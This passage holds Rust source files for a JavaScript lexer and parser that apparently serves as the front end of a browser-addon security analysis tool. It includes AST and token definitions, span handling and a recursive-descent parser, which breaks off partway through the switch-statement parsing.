    pub params: Vec<Ident>,
    /// Function body statements.
    pub body: Vec<Stmt>,
    /// Source location of the whole literal.
    pub span: Span,
}

/// A statement.
#[derive(Debug, Clone, PartialEq)]
pub struct Stmt {
    /// The statement's payload.
    pub kind: StmtKind,
    /// Source location.
    pub span: Span,
}

/// The different kinds of statement.
#[derive(Debug, Clone, PartialEq)]
pub enum StmtKind {
    /// An expression evaluated for effect.
    Expr(Expr),
    /// `var a = 1, b;`
    VarDecl(Vec<VarDeclarator>),
    /// A function declaration.
    FunDecl(Function),
    /// `if (cond) cons else alt`
    If {
        /// Condition.
        cond: Expr,
        /// Then-branch.
        cons: Box<Stmt>,
        /// Optional else-branch.
        alt: Option<Box<Stmt>>,
    },
    /// `while (cond) body`
    While {
        /// Loop condition.
        cond: Expr,
        /// Loop body.
        body: Box<Stmt>,
    },
    /// `do body while (cond);`
    DoWhile {
        /// Loop body.
        body: Box<Stmt>,
        /// Loop condition.
        cond: Expr,
    },
    /// `for (init; test; update) body`
    For {
        /// Initializer (a statement: expression or var declaration).
        init: Option<Box<Stmt>>,
        /// Loop test.
        test: Option<Expr>,
        /// Update expression.
        update: Option<Expr>,
        /// Loop body.
        body: Box<Stmt>,
    },
    /// `for (target in obj) body`
    ForIn {
        /// True when written `for (var x in ...)`.
        decl: bool,
        /// The loop variable / assignment target.
        target: Box<Expr>,
        /// The object being enumerated.
        obj: Expr,
        /// Loop body.
        body: Box<Stmt>,
    },
    /// `return e;`
    Return(Option<Expr>),
    /// `break label;`
    Break(Option<Ident>),
    /// `continue label;`
    Continue(Option<Ident>),
    /// `throw e;`
    Throw(Expr),
    /// `try { .. } catch (e) { .. } finally { .. }`
    Try {
        /// The protected block.
        block: Vec<Stmt>,
        /// Catch clause: bound identifier and handler body.
        catch: Option<(Ident, Vec<Stmt>)>,
        /// Finally block.
        finally: Option<Vec<Stmt>>,
    },
    /// `switch (disc) { case ..: .. default: .. }`
    Switch {
        /// The discriminant expression.
        disc: Expr,
        /// The cases, in source order.
        cases: Vec<SwitchCase>,
    },
    /// `{ .. }`
    Block(Vec<Stmt>),
    /// `;`
    Empty,
    /// `label: stmt`
    Labeled(Ident, Box<Stmt>),
}

/// One declarator in a `var` statement.
#[derive(Debug, Clone, PartialEq)]
pub struct VarDeclarator {
    /// The declared name.
    pub name: Ident,
    /// The initializer, if present.
    pub init: Option<Expr>,
}

/// One arm of a `switch`.
#[derive(Debug, Clone, PartialEq)]
pub struct SwitchCase {
    /// `None` for `default:`.
    pub test: Option<Expr>,
    /// Statements of the arm.
    pub body: Vec<Stmt>,
}

/// An expression.
#[derive(Debug, Clone, PartialEq)]
pub struct Expr {
    /// The expression's payload.
    pub kind: ExprKind,
    /// Source location.
    pub span: Span,
}

/// The different kinds of expression.
#[derive(Debug, Clone, PartialEq)]
pub enum ExprKind {
    /// Variable reference.
    Ident(String),
    /// Numeric literal.
    Num(f64),
    /// String literal.
    Str(String),
    /// `true` / `false`.
    Bool(bool),
    /// `null`.
    Null,
    /// `this`.
    This,
    /// Regex literal (kept opaque; evaluates to a fresh object).
    Regex(String),
    /// `[a, b, ...]`; `None` entries are elisions.
    Array(Vec<Option<Expr>>),
    /// `{k: v, ...}`
    Object(Vec<(PropKey, Expr)>),
    /// A function expression.
    Function(Box<Function>),
    /// A unary operator application.
    Unary {
        /// The operator.
        op: UnaryOp,
        /// The operand.
        arg: Box<Expr>,
    },
    /// A binary operator application (no short-circuit).
    Binary {
        /// The operator.
        op: BinaryOp,
        /// Left operand.
        left: Box<Expr>,
        /// Right operand.
        right: Box<Expr>,
    },
    /// `&&` / `||` (short-circuiting).
    Logical {
        /// True for `&&`, false for `||`.
        is_and: bool,
        /// Left operand.
        left: Box<Expr>,
        /// Right operand.
        right: Box<Expr>,
    },
    /// Assignment, possibly compound (`x += e`).
    Assign {
        /// Compound operator, `None` for plain `=`.
        op: Option<BinaryOp>,
        /// The assignment target (identifier or member).
        target: Box<Expr>,
        /// The assigned value.
        value: Box<Expr>,
    },
    /// `++x`, `x--`, etc.
    Update {
        /// True for `++`, false for `--`.
        inc: bool,
        /// True for prefix form.
        prefix: bool,
        /// The target (identifier or member).
        arg: Box<Expr>,
    },
    /// `test ? cons : alt`
    Cond {
        /// The condition.
        test: Box<Expr>,
        /// Value if truthy.
        cons: Box<Expr>,
        /// Value if falsy.
        alt: Box<Expr>,
    },
    /// A function call.
    Call {
        /// The callee expression.
        callee: Box<Expr>,
        /// Arguments.
        args: Vec<Expr>,
    },
    /// `new Callee(args)`
    New {
        /// The constructor expression.
        callee: Box<Expr>,
        /// Arguments.
        args: Vec<Expr>,
    },
    /// Property access, `obj.prop` or `obj[expr]`.
    Member {
        /// The object expression.
        obj: Box<Expr>,
        /// The property being accessed.
        prop: MemberProp,
    },
    /// Comma expression `a, b, c`.
    Seq(Vec<Expr>),
}

/// Property position of a member expression.
#[derive(Debug, Clone, PartialEq)]
pub enum MemberProp {
    /// `obj.name`
    Static(String),
    /// `obj[expr]`
    Computed(Box<Expr>),
}

/// Key of an object-literal property.
#[derive(Debug, Clone, PartialEq)]
pub enum PropKey {
    /// `{name: ..}` or `{"name": ..}`
    Ident(String),
    /// `{42: ..}`
    Num(f64),
}

impl PropKey {
    /// The property name as a string, the way JavaScript coerces keys.
    pub fn as_string(&self) -> String {
        match self {
            PropKey::Ident(s) => s.clone(),
            PropKey::Num(n) => crate::number_to_string(*n),
        }
    }
}

/// Unary operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum UnaryOp {
    /// `-x`
    Neg,
    /// `+x`
    Pos,
    /// `!x`
    Not,
    /// `~x`
    BitNot,
    /// `typeof x`
    Typeof,
    /// `void x`
    Void,
    /// `delete x.p`
    Delete,
}

/// Binary operators (all non-short-circuit binary forms).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum BinaryOp {
    /// `+`
    Add,
    /// `-`
    Sub,
    /// `*`
    Mul,
    /// `/`
    Div,
    /// `%`
    Mod,
    /// `==`
    Eq,
    /// `!=`
    NotEq,
    /// `===`
    StrictEq,
    /// `!==`
    StrictNotEq,
    /// `<`
    Lt,
    /// `<=`
    Le,
    /// `>`
    Gt,
    /// `>=`
    Ge,
    /// `&`
    BitAnd,
    /// `|`
    BitOr,
    /// `^`
    BitXor,
    /// `<<`
    Shl,
    /// `>>`
    Shr,
    /// `>>>`
    UShr,
    /// `in`
    In,
    /// `instanceof`
    Instanceof,
}

impl Expr {
    /// True if this expression is a valid assignment target.
    pub fn is_assign_target(&self) -> bool {
        matches!(self.kind, ExprKind::Ident(_) | ExprKind::Member { .. })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn prop_key_strings() {
        assert_eq!(PropKey::Ident("url".into()).as_string(), "url");
        assert_eq!(PropKey::Num(42.0).as_string(), "42");
        assert_eq!(PropKey::Num(1.5).as_string(), "1.5");
    }

    #[test]
    fn assign_targets() {
        let id = Expr {
            kind: ExprKind::Ident("x".into()),
            span: Span::default(),
        };
        assert!(id.is_assign_target());
        let lit = Expr {
            kind: ExprKind::Num(1.0),
            span: Span::default(),
        };
        assert!(!lit.is_assign_target());
    }

    #[test]
    fn fun_id_display() {
        assert_eq!(FunId(3).to_string(), "fun3");
    }
}
