//! Token definitions for the JavaScript lexer.

use crate::span::Span;
use std::fmt;

/// A lexed token: its kind plus the source span it covers and whether a
/// line terminator preceded it (needed for automatic semicolon insertion
/// and the restricted productions `return` / `throw` / `break` /
/// `continue`).
#[derive(Debug, Clone, PartialEq)]
pub struct Token {
    /// What kind of token this is.
    pub kind: TokenKind,
    /// Source range of the token.
    pub span: Span,
    /// True if at least one newline appeared between the previous token
    /// and this one.
    pub newline_before: bool,
}

/// The different kinds of tokens produced by the lexer.
#[derive(Debug, Clone, PartialEq)]
pub enum TokenKind {
    /// An identifier that is not a reserved word, e.g. `foo`.
    Ident(String),
    /// A reserved word, e.g. `function`.
    Keyword(Keyword),
    /// A numeric literal, already converted to its value.
    Num(f64),
    /// A string literal with escapes resolved.
    Str(String),
    /// A regular expression literal, stored as written (`/pat/flags`).
    Regex(String),
    /// A punctuator such as `{` or `===`.
    Punct(Punct),
    /// End of input.
    Eof,
}

impl TokenKind {
    /// True if this token is the given punctuator.
    pub fn is_punct(&self, p: Punct) -> bool {
        matches!(self, TokenKind::Punct(q) if *q == p)
    }

    /// True if this token is the given keyword.
    pub fn is_keyword(&self, k: Keyword) -> bool {
        matches!(self, TokenKind::Keyword(q) if *q == k)
    }
}

/// JavaScript reserved words recognized by the lexer.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[allow(missing_docs)] // variants are the keywords themselves
pub enum Keyword {
    Var,
    Function,
    Return,
    If,
    Else,
    While,
    Do,
    For,
    In,
    Break,
    Continue,
    New,
    Delete,
    Typeof,
    Instanceof,
    This,
    Null,
    True,
    False,
    Throw,
    Try,
    Catch,
    Finally,
    Switch,
    Case,
    Default,
    Void,
    With,
}

impl Keyword {
    /// Looks up a keyword from its source spelling.
    pub fn lookup(s: &str) -> Option<Keyword> {
        use Keyword::*;
        Some(match s {
            "var" => Var,
            "function" => Function,
            "return" => Return,
            "if" => If,
            "else" => Else,
            "while" => While,
            "do" => Do,
            "for" => For,
            "in" => In,
            "break" => Break,
            "continue" => Continue,
            "new" => New,
            "delete" => Delete,
            "typeof" => Typeof,
            "instanceof" => Instanceof,
            "this" => This,
            "null" => Null,
            "true" => True,
            "false" => False,
            "throw" => Throw,
            "try" => Try,
            "catch" => Catch,
            "finally" => Finally,
            "switch" => Switch,
            "case" => Case,
            "default" => Default,
            "void" => Void,
            "with" => With,
            _ => return None,
        })
    }

    /// The source spelling of the keyword.
    pub fn as_str(self) -> &'static str {
        use Keyword::*;
        match self {
            Var => "var",
            Function => "function",
            Return => "return",
            If => "if",
            Else => "else",
            While => "while",
            Do => "do",
            For => "for",
            In => "in",
            Break => "break",
            Continue => "continue",
            New => "new",
            Delete => "delete",
            Typeof => "typeof",
            Instanceof => "instanceof",
            This => "this",
            Null => "null",
            True => "true",
            False => "false",
            Throw => "throw",
            Try => "try",
            Catch => "catch",
            Finally => "finally",
            Switch => "switch",
            Case => "case",
            Default => "default",
            Void => "void",
            With => "with",
        }
    }
}

impl fmt::Display for Keyword {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Punctuators and operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[allow(missing_docs)] // variants are the punctuators themselves
pub enum Punct {
    LBrace,
    RBrace,
    LParen,
    RParen,
    LBracket,
    RBracket,
    Semi,
    Comma,
    Dot,
    Question,
    Colon,
    // Relational / equality.
    Lt,
    Gt,
    Le,
    Ge,
    EqEq,
    NotEq,
    EqEqEq,
    NotEqEq,
    // Arithmetic.
    Plus,
    Minus,
    Star,
    Slash,
    Percent,
    // Update.
    PlusPlus,
    MinusMinus,
    // Bitwise / shift.
    Amp,
    Pipe,
    Caret,
    Tilde,
    Shl,
    Shr,
    UShr,
    // Logical.
    AmpAmp,
    PipePipe,
    Bang,
    // Assignment.
    Eq,
    PlusEq,
    MinusEq,
    StarEq,
    SlashEq,
    PercentEq,
    ShlEq,
    ShrEq,
    UShrEq,
    AmpEq,
    PipeEq,
    CaretEq,
}

impl Punct {
    /// The source spelling of the punctuator.
    pub fn as_str(self) -> &'static str {
        use Punct::*;
        match self {
            LBrace => "{",
            RBrace => "}",
            LParen => "(",
            RParen => ")",
            LBracket => "[",
            RBracket => "]",
            Semi => ";",
            Comma => ",",
            Dot => ".",
            Question => "?",
            Colon => ":",
            Lt => "<",
            Gt => ">",
            Le => "<=",
            Ge => ">=",
            EqEq => "==",
            NotEq => "!=",
            EqEqEq => "===",
            NotEqEq => "!==",
            Plus => "+",
            Minus => "-",
            Star => "*",
            Slash => "/",
            Percent => "%",
            PlusPlus => "++",
            MinusMinus => "--",
            Amp => "&",
            Pipe => "|",
            Caret => "^",
            Tilde => "~",
            Shl => "<<",
            Shr => ">>",
            UShr => ">>>",
            AmpAmp => "&&",
            PipePipe => "||",
            Bang => "!",
            Eq => "=",
            PlusEq => "+=",
            MinusEq => "-=",
            StarEq => "*=",
            SlashEq => "/=",
            PercentEq => "%=",
            ShlEq => "<<=",
            ShrEq => ">>=",
            UShrEq => ">>>=",
            AmpEq => "&=",
            PipeEq => "|=",
            CaretEq => "^=",
        }
    }
}

impl fmt::Display for Punct {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl fmt::Display for TokenKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TokenKind::Ident(s) => write!(f, "identifier `{s}`"),
            TokenKind::Keyword(k) => write!(f, "keyword `{k}`"),
            TokenKind::Num(n) => write!(f, "number `{n}`"),
            TokenKind::Str(s) => write!(f, "string {s:?}"),
            TokenKind::Regex(r) => write!(f, "regex `{r}`"),
            TokenKind::Punct(p) => write!(f, "`{p}`"),
            TokenKind::Eof => write!(f, "end of input"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keyword_round_trip() {
        for kw in [
            Keyword::Var,
            Keyword::Function,
            Keyword::Instanceof,
            Keyword::With,
        ] {
            assert_eq!(Keyword::lookup(kw.as_str()), Some(kw));
        }
        assert_eq!(Keyword::lookup("let"), None);
    }

    #[test]
    fn token_kind_queries() {
        let t = TokenKind::Punct(Punct::Semi);
        assert!(t.is_punct(Punct::Semi));
        assert!(!t.is_punct(Punct::Comma));
        let k = TokenKind::Keyword(Keyword::Var);
        assert!(k.is_keyword(Keyword::Var));
        assert!(!k.is_keyword(Keyword::If));
        assert!(!t.is_keyword(Keyword::Var));
    }

    #[test]
    fn display_forms() {
        assert_eq!(TokenKind::Punct(Punct::EqEqEq).to_string(), "`===`");
        assert_eq!(
            TokenKind::Ident("x".into()).to_string(),
            "identifier `x`"
        );
        assert_eq!(TokenKind::Eof.to_string(), "end of input");
    }
}
