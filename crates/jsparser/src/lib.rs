//! A lexer and parser for the JavaScript subset used by browser addons.
//!
//! This crate is the front end of the `addon-sig` analysis pipeline, a
//! reproduction of *Security Signature Inference for JavaScript-based
//! Browser Addons* (Kashyap & Hardekopf, CGO 2014). It provides:
//!
//! - [`parse`]: source text to [`ast::Program`],
//! - [`count_nodes`]: the Rhino-style AST-node size metric the paper
//!   reports in Table 1,
//! - full span tracking for diagnostics.
//!
//! The accepted language is the ES5 statement/expression language that
//! pre-Jetpack Mozilla addons were written in. `with` is rejected at parse
//! time (it defeats static scoping); `eval` and other dynamic-code APIs
//! parse as ordinary calls and are flagged later by the security analysis,
//! exactly as in the paper's vetting model.
//!
//! # Examples
//!
//! ```
//! let program = jsparser::parse(
//!     "var data = { url: content.location.href };\n\
//!      send(data.url);",
//! )?;
//! assert_eq!(program.body.len(), 2);
//! assert!(jsparser::count_nodes(&program) > 10);
//! # Ok::<(), jsparser::ParseError>(())
//! ```

#![warn(missing_docs)]

pub mod ast;
mod count;
mod error;
mod lexer;
mod parser;
pub mod span;
pub mod token;

pub use count::count_nodes;
pub use error::{ParseError, ParseErrorKind};
pub use lexer::lex;
pub use parser::parse;
pub use span::Span;

/// Converts a JavaScript number to its canonical string form, the way
/// property keys and `toString` coerce numbers (`42` not `42.0`).
pub fn number_to_string(n: f64) -> String {
    if n.is_nan() {
        return "NaN".to_owned();
    }
    if n.is_infinite() {
        return if n > 0.0 { "Infinity" } else { "-Infinity" }.to_owned();
    }
    if n == n.trunc() && n.abs() < 1e21 {
        format!("{}", n as i64)
    } else {
        format!("{n}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn number_to_string_integral() {
        assert_eq!(number_to_string(42.0), "42");
        assert_eq!(number_to_string(-3.0), "-3");
        assert_eq!(number_to_string(0.0), "0");
    }

    #[test]
    fn number_to_string_fractional() {
        assert_eq!(number_to_string(1.5), "1.5");
        assert_eq!(number_to_string(f64::NAN), "NaN");
        assert_eq!(number_to_string(f64::INFINITY), "Infinity");
        assert_eq!(number_to_string(f64::NEG_INFINITY), "-Infinity");
    }
}
