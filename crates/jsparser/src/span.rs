//! Source positions and spans.

use std::fmt;

/// A half-open byte range `[start, end)` into the source text, plus the
/// 1-based line on which the range starts.
///
/// Spans are attached to every token and AST node so that diagnostics and
/// signature entries can point back at addon source code.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub struct Span {
    /// Byte offset of the first character.
    pub start: u32,
    /// Byte offset one past the last character.
    pub end: u32,
    /// 1-based source line of `start`.
    pub line: u32,
}

impl Span {
    /// Creates a new span.
    pub fn new(start: u32, end: u32, line: u32) -> Self {
        Span { start, end, line }
    }

    /// A span covering both `self` and `other`.
    ///
    /// The resulting line is the line of the earlier span.
    pub fn to(self, other: Span) -> Span {
        Span {
            start: self.start.min(other.start),
            end: self.end.max(other.end),
            line: if self.start <= other.start {
                self.line
            } else {
                other.line
            },
        }
    }

    /// Length of the span in bytes.
    pub fn len(self) -> u32 {
        self.end.saturating_sub(self.start)
    }

    /// True if the span covers no characters.
    pub fn is_empty(self) -> bool {
        self.len() == 0
    }
}

impl fmt::Display for Span {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}", self.line)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn merge_spans() {
        let a = Span::new(0, 5, 1);
        let b = Span::new(10, 12, 3);
        assert_eq!(a.to(b), Span::new(0, 12, 1));
        assert_eq!(b.to(a), Span::new(0, 12, 1));
    }

    #[test]
    fn empty_span() {
        assert!(Span::default().is_empty());
        assert!(!Span::new(1, 3, 1).is_empty());
        assert_eq!(Span::new(1, 3, 1).len(), 2);
    }

    #[test]
    fn display_shows_line() {
        assert_eq!(Span::new(4, 9, 7).to_string(), "line 7");
    }
}
