//! Recursive-descent parser with automatic semicolon insertion.
//!
//! The grammar is the ES5 statement/expression language that Mozilla-era
//! addons were written in (no getters/setters, no `eval`-style indirect
//! constructs in the grammar itself -- `eval` is an ordinary call and is
//! flagged later by the security analysis, exactly as in the paper).

use crate::ast::*;
use crate::error::{ParseError, ParseErrorKind};
use crate::lexer::lex;
use crate::span::Span;
use crate::token::{Keyword, Punct, Token, TokenKind};

/// Parses a complete program.
///
/// # Errors
///
/// Returns the first lexical or syntactic error encountered.
///
/// # Examples
///
/// ```
/// let program = jsparser::parse("var x = 1; send(x);")?;
/// assert_eq!(program.body.len(), 2);
/// # Ok::<(), jsparser::ParseError>(())
/// ```
pub fn parse(src: &str) -> Result<Program, ParseError> {
    let tokens = lex(src)?;
    let mut p = Parser {
        tokens,
        pos: 0,
        next_fun: 0,
    };
    let body = p.statements_until_eof()?;
    Ok(Program {
        body,
        fun_count: p.next_fun,
    })
}

struct Parser {
    tokens: Vec<Token>,
    pos: usize,
    next_fun: u32,
}

impl Parser {
    fn peek(&self) -> &Token {
        &self.tokens[self.pos.min(self.tokens.len() - 1)]
    }

    fn peek2(&self) -> &Token {
        &self.tokens[(self.pos + 1).min(self.tokens.len() - 1)]
    }

    fn bump(&mut self) -> Token {
        let t = self.tokens[self.pos.min(self.tokens.len() - 1)].clone();
        if self.pos < self.tokens.len() - 1 {
            self.pos += 1;
        }
        t
    }

    fn at_eof(&self) -> bool {
        matches!(self.peek().kind, TokenKind::Eof)
    }

    fn err_expected(&self, expected: &str) -> ParseError {
        ParseError {
            kind: ParseErrorKind::UnexpectedToken {
                found: self.peek().kind.to_string(),
                expected: expected.to_owned(),
            },
            span: self.peek().span,
        }
    }

    fn eat_punct(&mut self, p: Punct) -> bool {
        if self.peek().kind.is_punct(p) {
            self.bump();
            true
        } else {
            false
        }
    }

    fn expect_punct(&mut self, p: Punct) -> Result<Span, ParseError> {
        if self.peek().kind.is_punct(p) {
            Ok(self.bump().span)
        } else {
            Err(self.err_expected(p.as_str()))
        }
    }

    fn eat_keyword(&mut self, k: Keyword) -> bool {
        if self.peek().kind.is_keyword(k) {
            self.bump();
            true
        } else {
            false
        }
    }

    fn expect_ident(&mut self) -> Result<Ident, ParseError> {
        match &self.peek().kind {
            TokenKind::Ident(name) => {
                let name = name.clone();
                let span = self.bump().span;
                Ok(Ident { name, span })
            }
            _ => Err(self.err_expected("identifier")),
        }
    }

    /// Automatic semicolon insertion: consume `;`, or accept a newline
    /// before the current token, a `}`, or end of input.
    fn semicolon(&mut self) -> Result<(), ParseError> {
        if self.eat_punct(Punct::Semi) {
            return Ok(());
        }
        if self.peek().kind.is_punct(Punct::RBrace)
            || self.at_eof()
            || self.peek().newline_before
        {
            return Ok(());
        }
        Err(self.err_expected(";"))
    }

    fn statements_until_eof(&mut self) -> Result<Vec<Stmt>, ParseError> {
        let mut out = Vec::new();
        while !self.at_eof() {
            out.push(self.statement()?);
        }
        Ok(out)
    }

    fn block(&mut self) -> Result<Vec<Stmt>, ParseError> {
        self.expect_punct(Punct::LBrace)?;
        let mut out = Vec::new();
        while !self.peek().kind.is_punct(Punct::RBrace) {
            if self.at_eof() {
                return Err(self.err_expected("}"));
            }
            out.push(self.statement()?);
        }
        self.bump();
        Ok(out)
    }

    fn statement(&mut self) -> Result<Stmt, ParseError> {
        let start = self.peek().span;
        match &self.peek().kind {
            TokenKind::Punct(Punct::LBrace) => {
                let body = self.block()?;
                Ok(Stmt {
                    kind: StmtKind::Block(body),
                    span: start,
                })
            }
            TokenKind::Punct(Punct::Semi) => {
                self.bump();
                Ok(Stmt {
                    kind: StmtKind::Empty,
                    span: start,
                })
            }
            TokenKind::Keyword(kw) => {
                let kw = *kw;
                match kw {
                    Keyword::Var => self.var_statement(),
                    Keyword::Function => {
                        self.bump();
                        let f = self.function_rest(start, true)?;
                        Ok(Stmt {
                            span: f.span,
                            kind: StmtKind::FunDecl(f),
                        })
                    }
                    Keyword::If => self.if_statement(),
                    Keyword::While => self.while_statement(),
                    Keyword::Do => self.do_while_statement(),
                    Keyword::For => self.for_statement(),
                    Keyword::Return => {
                        self.bump();
                        let arg = if self.stmt_terminated() {
                            None
                        } else {
                            Some(self.expression(true)?)
                        };
                        self.semicolon()?;
                        Ok(Stmt {
                            kind: StmtKind::Return(arg),
                            span: start,
                        })
                    }
                    Keyword::Break | Keyword::Continue => {
                        self.bump();
                        let label = if !self.stmt_terminated() {
                            match &self.peek().kind {
                                TokenKind::Ident(_) if !self.peek().newline_before => {
                                    Some(self.expect_ident()?)
                                }
                                _ => None,
                            }
                        } else {
                            None
                        };
                        self.semicolon()?;
                        let kind = if kw == Keyword::Break {
                            StmtKind::Break(label)
                        } else {
                            StmtKind::Continue(label)
                        };
                        Ok(Stmt { kind, span: start })
                    }
                    Keyword::Throw => {
                        self.bump();
                        if self.peek().newline_before {
                            return Err(ParseError {
                                kind: ParseErrorKind::InvalidStatement(
                                    "newline not allowed after `throw`".into(),
                                ),
                                span: self.peek().span,
                            });
                        }
                        let arg = self.expression(true)?;
                        self.semicolon()?;
                        Ok(Stmt {
                            kind: StmtKind::Throw(arg),
                            span: start,
                        })
                    }
                    Keyword::Try => self.try_statement(),
                    Keyword::Switch => self.switch_statement(),
                    Keyword::With => Err(ParseError {
                        kind: ParseErrorKind::InvalidStatement(
                            "`with` is not supported in the analyzed subset".into(),
                        ),
                        span: start,
                    }),
                    _ => self.expr_statement(),
                }
            }
            TokenKind::Ident(_) if self.peek2().kind.is_punct(Punct::Colon) => {
                let label = self.expect_ident()?;
                self.bump(); // colon
                let body = self.statement()?;
                Ok(Stmt {
                    kind: StmtKind::Labeled(label, Box::new(body)),
                    span: start,
                })
            }
            _ => self.expr_statement(),
        }
    }

    /// True if the statement being parsed ends here (for restricted
    /// productions).
    fn stmt_terminated(&self) -> bool {
        self.peek().kind.is_punct(Punct::Semi)
            || self.peek().kind.is_punct(Punct::RBrace)
            || self.at_eof()
            || self.peek().newline_before
    }

    fn expr_statement(&mut self) -> Result<Stmt, ParseError> {
        let start = self.peek().span;
        let e = self.expression(true)?;
        self.semicolon()?;
        Ok(Stmt {
            span: start.to(e.span),
            kind: StmtKind::Expr(e),
        })
    }

    fn var_statement(&mut self) -> Result<Stmt, ParseError> {
        let start = self.bump().span; // `var`
        let decls = self.var_declarators(true)?;
        self.semicolon()?;
        Ok(Stmt {
            kind: StmtKind::VarDecl(decls),
            span: start,
        })
    }

    fn var_declarators(&mut self, allow_in: bool) -> Result<Vec<VarDeclarator>, ParseError> {
        let mut decls = Vec::new();
        loop {
            let name = self.expect_ident()?;
            let init = if self.eat_punct(Punct::Eq) {
                Some(self.assignment(allow_in)?)
            } else {
                None
            };
            decls.push(VarDeclarator { name, init });
            if !self.eat_punct(Punct::Comma) {
                break;
            }
        }
        Ok(decls)
    }

    fn paren_expr(&mut self) -> Result<Expr, ParseError> {
        self.expect_punct(Punct::LParen)?;
        let e = self.expression(true)?;
        self.expect_punct(Punct::RParen)?;
        Ok(e)
    }

    fn if_statement(&mut self) -> Result<Stmt, ParseError> {
        let start = self.bump().span; // `if`
        let cond = self.paren_expr()?;
        let cons = Box::new(self.statement()?);
        let alt = if self.eat_keyword(Keyword::Else) {
            Some(Box::new(self.statement()?))
        } else {
            None
        };
        Ok(Stmt {
            kind: StmtKind::If { cond, cons, alt },
            span: start,
        })
    }

    fn while_statement(&mut self) -> Result<Stmt, ParseError> {
        let start = self.bump().span;
        let cond = self.paren_expr()?;
        let body = Box::new(self.statement()?);
        Ok(Stmt {
            kind: StmtKind::While { cond, body },
            span: start,
        })
    }

    fn do_while_statement(&mut self) -> Result<Stmt, ParseError> {
        let start = self.bump().span;
        let body = Box::new(self.statement()?);
        if !self.eat_keyword(Keyword::While) {
            return Err(self.err_expected("while"));
        }
        let cond = self.paren_expr()?;
        // ASI is unconditional after do-while.
        self.eat_punct(Punct::Semi);
        Ok(Stmt {
            kind: StmtKind::DoWhile { body, cond },
            span: start,
        })
    }

    fn for_statement(&mut self) -> Result<Stmt, ParseError> {
        let start = self.bump().span;
        self.expect_punct(Punct::LParen)?;

        // for (;;), for (init; test; update), for (x in obj),
        // for (var x in obj).
        if self.peek().kind.is_keyword(Keyword::Var) {
            self.bump();
            let decls = self.var_declarators(false)?;
            if self.peek().kind.is_keyword(Keyword::In) {
                self.bump();
                if decls.len() != 1 || decls[0].init.is_some() {
                    return Err(ParseError {
                        kind: ParseErrorKind::InvalidStatement(
                            "invalid for-in declaration".into(),
                        ),
                        span: start,
                    });
                }
                let name = decls.into_iter().next().expect("one decl").name;
                let target = Expr {
                    span: name.span,
                    kind: ExprKind::Ident(name.name),
                };
                let obj = self.expression(true)?;
                self.expect_punct(Punct::RParen)?;
                let body = Box::new(self.statement()?);
                return Ok(Stmt {
                    kind: StmtKind::ForIn {
                        decl: true,
                        target: Box::new(target),
                        obj,
                        body,
                    },
                    span: start,
                });
            }
            let init = Some(Box::new(Stmt {
                kind: StmtKind::VarDecl(decls),
                span: start,
            }));
            return self.for_classic_rest(start, init);
        }

        if self.eat_punct(Punct::Semi) {
            return self.for_classic_after_init(start, None);
        }

        let first = self.expression(false)?;
        if self.peek().kind.is_keyword(Keyword::In) {
            self.bump();
            if !first.is_assign_target() {
                return Err(ParseError {
                    kind: ParseErrorKind::InvalidAssignTarget,
                    span: first.span,
                });
            }
            let obj = self.expression(true)?;
            self.expect_punct(Punct::RParen)?;
            let body = Box::new(self.statement()?);
            return Ok(Stmt {
                kind: StmtKind::ForIn {
                    decl: false,
                    target: Box::new(first),
                    obj,
                    body,
                },
                span: start,
            });
        }
        let init = Some(Box::new(Stmt {
            span: first.span,
            kind: StmtKind::Expr(first),
        }));
        self.for_classic_rest(start, init)
    }

    fn for_classic_rest(
        &mut self,
        start: Span,
        init: Option<Box<Stmt>>,
    ) -> Result<Stmt, ParseError> {
        self.expect_punct(Punct::Semi)?;
        self.for_classic_after_init(start, init)
    }

    fn for_classic_after_init(
        &mut self,
        start: Span,
        init: Option<Box<Stmt>>,
    ) -> Result<Stmt, ParseError> {
        let test = if self.peek().kind.is_punct(Punct::Semi) {
            None
        } else {
            Some(self.expression(true)?)
        };
        self.expect_punct(Punct::Semi)?;
        let update = if self.peek().kind.is_punct(Punct::RParen) {
            None
        } else {
            Some(self.expression(true)?)
        };
        self.expect_punct(Punct::RParen)?;
        let body = Box::new(self.statement()?);
        Ok(Stmt {
            kind: StmtKind::For {
                init,
                test,
                update,
                body,
            },
            span: start,
        })
    }

    fn try_statement(&mut self) -> Result<Stmt, ParseError> {
        let start = self.bump().span;
        let block = self.block()?;
        let catch = if self.eat_keyword(Keyword::Catch) {
            self.expect_punct(Punct::LParen)?;
            let param = self.expect_ident()?;
            self.expect_punct(Punct::RParen)?;
            let body = self.block()?;
            Some((param, body))
        } else {
            None
        };
        let finally = if self.eat_keyword(Keyword::Finally) {
            Some(self.block()?)
        } else {
            None
        };
        if catch.is_none() && finally.is_none() {
            return Err(self.err_expected("catch or finally"));
        }
        Ok(Stmt {
            kind: StmtKind::Try {
                block,
                catch,
                finally,
            },
            span: start,
        })
    }

    fn switch_statement(&mut self) -> Result<Stmt, ParseError> {
        let start = self.bump().span;
        let disc = self.paren_expr()?;
        self.expect_punct(Punct::LBrace)?;
        let mut cases = Vec::new();
        let mut seen_default = false;
        while !self.peek().kind.is_punct(Punct::RBrace) {
            let test = if self.eat_keyword(Keyword::Case) {
                let e = self.expression(true)?;
                Some(e)
            } else if self.eat_keyword(Keyword::Default) {
                if seen_default {
                    return Err(ParseError {
                        kind: ParseErrorKind::InvalidStatement(
                            "multiple `default` clauses".into(),
                        ),
                        span: self.peek().span,
                    });
                }
                seen_default = true;
                None
            } else {
                return Err(self.err_expected("case, default, or }"));
            };
            self.expect_punct(Punct::Colon)?;
            let mut body = Vec::new();
